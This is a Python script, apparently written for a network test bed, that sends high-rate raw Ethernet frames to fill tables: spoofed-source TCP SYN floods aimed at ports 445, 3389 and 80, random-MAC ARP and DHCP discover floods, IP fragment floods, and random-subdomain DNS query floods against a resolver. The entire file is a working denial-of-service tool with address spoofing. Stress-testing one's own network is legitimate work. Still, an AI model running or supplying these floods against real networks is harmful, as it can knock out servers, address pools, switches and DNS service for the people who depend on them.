#!/usr/bin/env python3
"""Frames of made-up senders, as fast as one process sends them: what fills tables.

    floods.py KIND SECONDS MAC GATEWAY-MAC SERVER RESOLVER      prints how many frames were sent
"""
import random
import socket
import struct
import sys
import time

ALL = b"\xff" * 6
r = random.Random(5)


def sum16(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def ipv4(source, to, protocol, body, fragment=0):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), r.getrandbits(16), fragment, 64, protocol, 0, source, to)
    return head[:10] + struct.pack(">H", sum16(head)) + head[12:] + body


def udp(source, to, ports, body):
    return ipv4(source, to, 17, struct.pack(">HHHH", *ports, 8 + len(body), 0) + body)


def anybody():
    """An address as of the internet or of the inside, never of this bed's own hosts."""
    return bytes([r.choice([10, 11, 100, 172, 185]), r.randrange(80, 250), r.randrange(256), r.randrange(1, 255)])


def machine():
    return bytes([r.randrange(0, 256, 4), *r.randbytes(5)])


def syn(own, gateway, server, _):
    source = anybody()
    tcp = struct.pack(">HHIIBBHHH", r.randrange(1024, 65536), r.choice([445, 3389, 80, r.randrange(1, 65536)]), r.getrandbits(32), 0, 0x50, 2, 64240, 0, 0)
    check = sum16(source + server + struct.pack(">BBH", 0, 6, len(tcp)) + tcp)
    return gateway + own + b"\x08\0" + ipv4(source, server, 6, tcp[:16] + struct.pack(">H", check) + tcp[18:])


def arp(own, gateway, server, _):
    m, address = machine(), bytes([10, 65, 10, r.randrange(100, 250)])
    return ALL + m + struct.pack(">HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1) + m + address + bytes(6) + bytes([10, 65, 10, r.randrange(1, 255)])


def dhcp(own, gateway, server, _):
    m = machine()
    ask = struct.pack(">BBBBIHH16x", 1, 1, 6, 0, r.getrandbits(32), 0, 0x8000) + m + bytes(202) + b"\x63\x82\x53\x63" + b"\x35\x01\x01\x0c\x06" + r.randbytes(6).hex().encode()[:6] + b"\xff"
    return ALL + m + b"\x08\0" + udp(bytes(4), b"\xff" * 4, (68, 67), ask)


def fragments(own, gateway, server, _):
    return gateway + own + b"\x08\0" + ipv4(anybody(), server, 17, r.randbytes(200), 0x2000 | r.choice([0, 0, r.randrange(1, 8000)]))


def dns(own, gateway, server, resolver):
    name = b"".join(bytes([12]) + r.randbytes(6).hex().encode() for _ in range(2)) + b"\x07example\0"
    ask = struct.pack(">HHHHHH", r.getrandbits(16), 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", r.choice([1, 16, 28]), 1)
    return gateway + own + b"\x08\0" + udp(anybody(), resolver, (r.randrange(1024, 65536), 53), ask)


KINDS = {f.__name__: f for f in (syn, arp, dhcp, fragments, dns)}

if __name__ == "__main__":
    kind, seconds, own, gateway, server, resolver = sys.argv[1:]
    who = [bytes.fromhex(m.replace(":", "")) for m in (own, gateway)] + [socket.inet_aton(a) for a in (server, resolver)]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind(("eth0", 0))
    until, sent = time.time() + float(seconds), 0
    while time.time() < until:
        for _ in range(64):
            try:
                out.send(KINDS[kind](*who))
                sent += 1
            except OSError:
                time.sleep(0.001)  # the port's queue is full
    print(sent)
